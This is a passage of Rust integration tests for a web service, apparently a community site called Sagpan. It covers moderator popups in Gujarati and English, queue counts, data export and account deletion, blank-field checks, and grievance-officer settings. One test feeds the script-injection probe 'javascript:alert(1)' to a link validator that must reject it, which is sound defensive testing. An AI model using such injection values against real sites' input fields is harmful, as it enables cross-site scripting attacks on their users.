        "titleGu": "જાળવણી માટે બંધ",
        "titleEn": "Closed for maintenance",
        "bodyGu": "રવિવારે રાત્રે 2 થી 3 સગપણ બંધ રહેશે.",
        "bodyEn": "Sagpan is closed on Sunday from 02:00 to 03:00.",
        "buttonTextGu": "વધુ વાંચો",
        "buttonTextEn": "Read more",
        "buttonAction": link,
    })
}

#[tokio::test]
async fn moderators_set_and_clear_the_popup_that_everyone_sees() {
    let app = app().await;
    let moderator = app.moderator_token().await;
    assert_eq!(app.get("/api/PopupSetting/Web").await.status(), 204);
    let set = |body: Value| app.authed(reqwest::Method::PUT, &moderator, "/api/Admin/Popup", Some(body));

    let member = app.member().await;
    problem(
        app.authed(reqwest::Method::PUT, &member.token, "/api/Admin/Popup", Some(popup("https://example.com"))).await,
        403,
    )
    .await;
    for link in ["http://example.com/news", "javascript:alert(1)", "https://", "ftp://example.com"] {
        let body = problem(set(popup(link)).await, 400).await;
        assert_eq!(body["errors"]["buttonAction"][0], "Enter a web address that starts with https://.", "{link}");
    }
    let mut too_long = popup("https://example.com");
    too_long["bodyEn"] = json!("b".repeat(1001));
    too_long["buttonTextGu"] = json!("ક".repeat(31));
    let body = problem(set(too_long).await, 400).await;
    assert_eq!(body["errors"]["bodyEn"][0], "Enter at most 1000 characters.");
    assert_eq!(body["errors"]["buttonTextGu"][0], "Enter at most 30 characters.");
    assert_eq!(app.get("/api/PopupSetting/Web").await.status(), 204, "nothing was set");

    let mut longest = popup(&format!("https://example.com/{}", "a".repeat(480)));
    longest["bodyEn"] = json!("b".repeat(1000));
    longest["buttonTextGu"] = json!("ક".repeat(30));
    let r = set(longest).await;
    assert_eq!(r.status(), 200);
    let state: Value = r.json().await.unwrap();
    assert_eq!(state["message"], "The popup is saved; every visitor sees it once.");
    let first: Value = app.get_in("/api/PopupSetting/Web", "en").await.json().await.unwrap();
    assert_eq!(first["buttonText"], "Read more");
    assert_eq!(first["body"].as_str().unwrap().len(), 1000);
    let gu: Value = app.get_in("/api/PopupSetting/Web", "gu").await.json().await.unwrap();
    assert_eq!(gu["title"], "જાળવણી માટે બંધ");
    assert_eq!(gu["version"], first["version"]);

    app.state.clock.advance(Duration::seconds(5));
    assert_eq!(set(popup("https://example.com/news")).await.status(), 200);
    let second: Value = app.get_in("/api/PopupSetting/Web", "en").await.json().await.unwrap();
    assert_ne!(second["version"], first["version"], "a change shows again");
    assert_eq!(second["buttonAction"], "https://example.com/news");
    let read: Value =
        app.authed(reqwest::Method::GET, &moderator, "/api/Admin/Popup", None).await.json().await.unwrap();
    assert_eq!(read["popup"]["titleGu"], "જાળવણી માટે બંધ");

    let r = app.authed(reqwest::Method::DELETE, &moderator, "/api/Admin/Popup", None).await;
    assert_eq!(r.status(), 200);
    assert_eq!(app.get("/api/PopupSetting/Web").await.status(), 204);
    let actions = app.audit_actions(&moderator).await;
    assert_eq!(actions.iter().filter(|a| *a == "set_popup").count(), 2);
    assert!(actions.contains(&"clear_popup".to_owned()));
}

#[tokio::test]
async fn the_moderator_home_counts_every_queue_with_its_longest_wait() {
    let app = app().await;
    let moderator = app.moderator_token().await;
    let empty = app.figures(&moderator).await;
    let kinds: Vec<&str> = empty["queues"].as_array().unwrap().iter().map(|q| q["queue"].as_str().unwrap()).collect();
    assert_eq!(kinds, ["approval", "photos", "checks", "editRequests", "reports", "tickets", "enquiries"]);
    assert!(
        empty["queues"].as_array().unwrap().iter().all(|q| q["count"] == 0 && q.get("oldestWaitingSince").is_none())
    );

    app.submitted_member().await;
    let m = app.member().await;
    app.open_ticket(&m, "one", vec![]).await;
    app.state.clock.advance(Duration::minutes(5));
    app.open_ticket(&m, "two", vec![]).await;
    assert_eq!(app.multipart(None, "/api/Home/Contact", contact_form(&good_contact())).await.status(), 200);
    let figures = app.figures(&moderator).await;
    let count = |kind: &str| figures["queues"].as_array().unwrap().iter().find(|q| q["queue"] == kind).unwrap().clone();
    assert_eq!(count("approval")["count"], 1);
    assert_eq!(count("tickets")["count"], 2);
    assert_eq!(count("enquiries")["count"], 1);
    let oldest =
        chrono::DateTime::parse_from_rfc3339(count("tickets")["oldestWaitingSince"].as_str().unwrap()).unwrap();
    let enquiry =
        chrono::DateTime::parse_from_rfc3339(count("enquiries")["oldestWaitingSince"].as_str().unwrap()).unwrap();
    assert!(enquiry - oldest >= Duration::minutes(5), "the first ticket has waited longest");
}

#[tokio::test]
async fn the_export_holds_the_tickets_and_deleting_the_account_erases_them_with_their_files() {
    let app = app().await;
    let m = app.member().await;
    let info: Value = app.authed(reqwest::Method::GET, &m.token, "/api/Account/Info", None).await.json().await.unwrap();
    let email = info["email"].as_str().unwrap().to_owned();
    app.open_ticket(&m, "my data", vec![file("a.png", png(10, 10))]).await;
    assert_eq!(app.post_query(&format!("/api/Home/Subscribe?emailAddress={}", urlencode(&email))).await.status(), 200);
    let export: Value =
        app.authed(reqwest::Method::GET, &m.token, "/api/Account/Export", None).await.json().await.unwrap();
    assert_eq!(export["tickets"][0]["topic"], "my data");
    assert_eq!(export["tickets"][0]["messages"][0]["attachments"][0]["fileName"], "a.png");
    assert_eq!(export["subscribedToNews"], true);
    assert_eq!(app.stored_attachments(), 1);

    let r = app
        .client
        .post(app.url("/api/Account/DeleteAccount?password=kesar-keri-42"))
        .bearer_auth(&m.token)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(app.ticket_count().await, 0);
    assert_eq!(app.attachment_count().await, 0);
    assert_eq!(entity::ticket_message::Entity::find().count(&app.state.db).await.unwrap(), 0);
    assert_eq!(entity::subscriber::Entity::find().count(&app.state.db).await.unwrap(), 0);
    assert_eq!(app.stored_attachments(), 0, "the files went with the rows");
}

#[tokio::test]
async fn texts_of_spaces_only_are_missing() {
    let app = app().await;
    let moderator = app.moderator_token().await;
    let m = app.member().await;
    let body = problem(
        app.multipart(Some(&m.token), "/api/Ticket/NewTicket", ticket_form(Some("   "), Some(" \n "), vec![])).await,
        400,
    )
    .await;
    assert_eq!(body["errors"]["topic"][0], "This field is required.");
    assert_eq!(body["errors"]["message"][0], "This field is required.");
    let fields = replaced(good_contact(), "message", Some("    "));
    let body = problem(app.multipart(None, "/api/Home/Contact", contact_form(&fields)).await, 400).await;
    assert_eq!(body["errors"]["message"][0], "This field is required.");
    let mut blank = popup("https://example.com");
    blank["titleEn"] = json!("   ");
    let body = problem(app.authed(reqwest::Method::PUT, &moderator, "/api/Admin/Popup", Some(blank)).await, 400).await;
    assert_eq!(body["errors"]["titleEn"][0], "This field is required.");
    assert_eq!(app.ticket_count().await, 0);
}

#[tokio::test]
async fn the_grievance_officer_is_named_from_the_settings_for_everyone() {
    // Unset: no name; complaints go to the support address, answered within 24 hours and resolved within 15 days.
    let app = spawn_app_with(Options { support_email: Some("help@sagpan.test".into()), ..Options::default() }).await;
    let officer: Value = app.get("/api/Home/Grievance").await.json().await.unwrap();
    assert_eq!(officer, json!({"email": "help@sagpan.test", "acknowledgeHours": 24, "resolveDays": 15}));
    let app = spawn_app_with(Options {
        support_email: Some("help@sagpan.test".into()),
        grievance: Some(("Nirmala Patel", "grievance@sagpan.test", "+91 79 4000 5678")),
        ..Options::default()
    })
    .await;
    let officer: Value = app.get("/api/Home/Grievance").await.json().await.unwrap();
    assert_eq!(officer["name"], "Nirmala Patel");
    assert_eq!(officer["email"], "grievance@sagpan.test");
    assert_eq!(officer["phone"], "+91 79 4000 5678");
}
